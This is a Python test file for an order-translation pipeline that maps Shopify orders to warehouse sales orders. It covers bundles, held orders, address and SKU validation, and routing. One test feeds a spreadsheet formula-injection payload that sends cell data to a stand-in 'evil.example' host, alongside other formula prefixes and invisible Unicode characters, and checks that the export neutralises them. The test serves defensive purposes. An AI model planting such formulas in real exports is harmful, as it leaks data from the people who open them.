from __future__ import annotations

from datetime import UTC, datetime
from decimal import Decimal

from hypothesis import given

from sync_pipeline.lib.domain.bundles import expand_bundle
from sync_pipeline.lib.domain.config import Priority
from sync_pipeline.lib.domain.exceptions import ExceptionKind, Owner
from sync_pipeline.lib.domain.models import BundleGroup, ShopOrder
from sync_pipeline.lib.domain.sales_order import (
    HeldOrder,
    NotForWarehouse,
    NotForWarehouseReason,
    TranslatedOrder,
    line_reference,
)
from sync_pipeline.lib.domain.shippable import shippable_lines
from sync_pipeline.lib.domain.translate import translate_order

from .factories import GOOD_ADDRESS, KNOWN_ITEM_CODES, PROPERTY, RULES, make_line, make_order, shop_orders


def translate(order: ShopOrder) -> TranslatedOrder | HeldOrder | NotForWarehouse:
    return translate_order(order, RULES, KNOWN_ITEM_CODES)


def test_simple_order_header_and_items() -> None:
    order = make_order(
        make_line("1", "TEE-BLK-M", 2, unit_price=Decimal("20")),
        make_line("2", "TEE-BLACK-M", 1, unit_price=Decimal("18")),  # override → same item code
        make_line("3", "CAP-BLK-OS", 1, unit_price=Decimal("0")),  # free gift still ships
        created_at=datetime(2026, 10, 1, 9, 30, 5, tzinfo=UTC),
        total=Decimal("58"),
    )
    result = translate(order)
    assert isinstance(result, TranslatedOrder)
    header = result.header
    assert header.SalesOrderNumber == "SHP-5678901234567"
    assert header.CustomerPurchaseOrderReferenceNumber == "#1001"
    assert header.CreatedDate == "2026-10-01 09:30:05"
    assert (header.Site, header.ChannelName, header.ServiceType) == ("PrimarySite", "Shopify", "Standard")
    assert result.priority is Priority.NORMAL
    assert header.as_csv_row()["TotalSale"] == "58.00"
    rows = [(i.ItemCode, i.QuantityOrdered, i.SalePrice) for i in result.items]
    assert rows == [("TEE-BLK-M", 3, Decimal("19.33")), ("CAP-BLK-OS", 1, Decimal("0.00"))]
    assert all(i.Line == line_reference(i.ItemCode) and len(i.Line) <= 16 for i in result.items)


def test_bundles_are_exploded_and_merged() -> None:
    order = make_order(make_line("1", "BUNDLE-STARTER", 1), make_line("2", "TEE-BLK-M", 1))
    result = translate(order)
    assert isinstance(result, TranslatedOrder)
    assert result.quantities() == {"TEE-BLK-M": 2, "TEE-WHT-M": 1, "SOCK-BLK-OS": 2}


def test_native_bundle_components_pass_through() -> None:
    group = BundleGroup(id="g", title="Starter", quantity=1, parent_sku="BUNDLE-STARTER")
    order = make_order(
        make_line("1", "TEE-BLK-M", 1, bundle_group=group),
        make_line("2", "SOCK-BLK-OS", 2, bundle_group=group),
    )
    result = translate(order)
    assert isinstance(result, TranslatedOrder)
    assert result.quantities() == {"TEE-BLK-M": 1, "SOCK-BLK-OS": 2}


def test_unmapped_sku_is_held_for_warehouse_ops() -> None:
    result = translate(make_order(make_line("1", "TEE-PNK-M", 1, name="Tee pink M"), make_line("2", None, 1)))
    assert isinstance(result, HeldOrder)
    kinds = {(e.kind, e.owner) for e in result.exceptions}
    assert kinds == {(ExceptionKind.UNMAPPED_SKU, Owner.WAREHOUSE_OPS)}
    assert "'TEE-PNK-M'" in result.exceptions[0].message and "Tee pink M" in result.exceptions[0].message
    assert "no SKU" in result.exceptions[1].message


def test_bad_address_is_held_for_cx_alongside_sku_problems() -> None:
    order = make_order(
        make_line("1", "NOPE", 1), shipping_address=GOOD_ADDRESS.model_copy(update={"zip": None})
    )
    result = translate(order)
    assert isinstance(result, HeldOrder)
    assert [(e.kind, e.owner) for e in result.exceptions] == [
        (ExceptionKind.UNMAPPED_SKU, Owner.WAREHOUSE_OPS),
        (ExceptionKind.BAD_ADDRESS, Owner.CX),
    ]
    assert "postcode" in result.exceptions[1].message


def test_nothing_to_ship_is_not_an_exception() -> None:
    result = translate(
        make_order(make_line(is_gift_card=True), make_line("2", "NOPE", 1, requires_shipping=False))
    )
    assert isinstance(result, NotForWarehouse) and result.reason is NotForWarehouseReason.NOTHING_TO_SHIP


def test_cancelled_order_is_not_for_the_warehouse() -> None:
    result = translate(make_order(cancelled_at=datetime(2026, 10, 1, tzinfo=UTC)))
    assert isinstance(result, NotForWarehouse) and result.reason is NotForWarehouseReason.CANCELLED


def test_hostile_text_is_flattened() -> None:
    address = GOOD_ADDRESS.model_copy(
        update={"address1": 'Flat 1,\n"The Old Mill"\t\x00 Lane', "name": "Zoë 王"}
    )
    result = translate(make_order(shipping_address=address))
    assert isinstance(result, TranslatedOrder)
    assert result.header.ShippingAddressLine1 == 'Flat 1, "The Old Mill" Lane'
    assert result.header.ContactName == "Zoë 王"


def test_formulas_and_invisible_characters_never_reach_peoplevox_labels() -> None:
    """Exports get opened in Excel and printed on labels (issue 16 item 6; rule in text.py)."""
    address = GOOD_ADDRESS.model_copy(
        update={
            "name": '=HYPERLINK("http://evil.example/?"&A1,"Track parcel")',
            "company": "\u202eLtd Evil\u202c",
            "address1": "1 High\u200b Street\u2066",
            "address2": "@SUM(A1:A9) House",
            "city": "\ufeff-London",
            "phone": "+44 7700 900123",
        }
    )
    result = translate(
        make_order(shipping_address=address, email="+cmd@example.com", phone="+44 7700 900123")
    )
    assert isinstance(result, TranslatedOrder)
    header = result.header
    assert header.ContactName == '\'=HYPERLINK("http://evil.example/?"&A1,"Track parcel"), Ltd Evil'
    assert header.ShippingAddressLine1 == "1 High Street"
    assert header.ShippingAddressLine2 == "'@SUM(A1:A9) House"
    assert header.ShippingAddressCity == "'-London"
    assert header.Email == "'+cmd@example.com"
    for value in header.as_csv_row().values():
        assert not value.startswith(("=", "+", "-", "@")), value
        assert not any(0x200B <= ord(c) <= 0x200F or 0x202A <= ord(c) <= 0x202E for c in value), value


def test_phone_numbers_and_plain_numbers_stay_as_typed() -> None:
    address = GOOD_ADDRESS.model_copy(update={"address2": "-1"})
    result = translate(make_order(shipping_address=address, email=None, phone="+44 (0)7700 900-123"))
    assert isinstance(result, TranslatedOrder)
    assert result.header.Customer == "+44 (0)7700 900-123"
    assert result.header.ShippingAddressLine2 == "-1"


def test_b2b_routing_reaches_the_header() -> None:
    result = translate(make_order(customer_tags=("B2B",)))
    assert isinstance(result, TranslatedOrder)
    assert (result.header.Site, result.header.ChannelName, result.header.ServiceType) == (
        "Wholesale",
        "B2B",
        "Pallet",
    )
    assert result.priority is Priority.HIGH


def _expected_units(order: ShopOrder) -> int:
    total = 0
    for line in shippable_lines(order.lines):
        if line.bundle_group is None and line.sku and RULES.bundles.is_bundle(line.sku):
            total += sum(q for _, q in expand_bundle(line.sku, line.quantity, RULES.bundles))
        else:
            total += line.quantity
    return total


@PROPERTY
@given(order=shop_orders())
def test_every_order_has_exactly_one_outcome_and_every_unit_is_accounted_for(order: ShopOrder) -> None:
    result = translate(order)
    assert isinstance(result, TranslatedOrder | HeldOrder | NotForWarehouse)
    if order.is_cancelled or not shippable_lines(order.lines):
        assert isinstance(result, NotForWarehouse)
    elif isinstance(result, TranslatedOrder):
        assert sum(i.QuantityOrdered for i in result.items) == _expected_units(order)
        assert all(i.ItemCode in KNOWN_ITEM_CODES for i in result.items)
        assert len({i.ItemCode for i in result.items}) == len(result.items)
        assert len({i.Line for i in result.items}) == len(result.items)
    else:
        assert isinstance(result, HeldOrder) and result.exceptions
    assert translate(order) == result  # deterministic


def test_text_peoplevox_could_never_receive_is_cleaned_from_customer_fields() -> None:
    # U+FFFF / U+FFFE / a lone surrogate cannot appear in XML 1.0 at all (issue 16, item 1).
    address = GOOD_ADDRESS.model_copy(
        update={"address1": "1 High\uffff Street\ufffe", "city": "Lon\ud800don"}
    )
    result = translate(make_order(shipping_address=address, email="jane\x01@example.com"))
    assert isinstance(result, TranslatedOrder)
    assert (result.header.ShippingAddressLine1, result.header.ShippingAddressCity) == (
        "1 High Street",
        "London",
    )
    assert result.header.Email == "jane@example.com"


def test_a_sku_peoplevox_could_never_receive_holds_the_order_naming_it() -> None:
    result = translate(make_order(make_line("1", "TEE-BLK-M\x01", 1), make_line("2", "TEE-BLK-M", 1)))
    assert isinstance(result, HeldOrder)
    [problem] = result.exceptions
    assert problem.kind is ExceptionKind.UNMAPPED_SKU
    assert "SKU 'TEE-BLK-M\\x01' contains the character U+0001" in problem.message


def test_a_config_value_peoplevox_could_never_receive_holds_the_order_naming_the_field() -> None:
    default = RULES.routing.rules[-1]
    broken = default.model_copy(update={"route": default.route.model_copy(update={"channel": "Shop\uffff"})})
    rules = RULES.model_copy(
        update={"routing": RULES.routing.model_copy(update={"rules": [*RULES.routing.rules[:-1], broken]})}
    )
    result = translate_order(make_order(), rules, KNOWN_ITEM_CODES)
    assert isinstance(result, HeldOrder)
    [problem] = result.exceptions
    assert (problem.kind, problem.owner) == (ExceptionKind.UNSENDABLE_TEXT, Owner.INTEGRATION)
    assert "ChannelName contains the character U+FFFF" in problem.message


def test_a_fully_refunded_order_is_not_for_the_warehouse() -> None:
    result = translate(make_order(financial_status="REFUNDED"))
    assert isinstance(result, NotForWarehouse) and result.reason is NotForWarehouseReason.REFUNDED
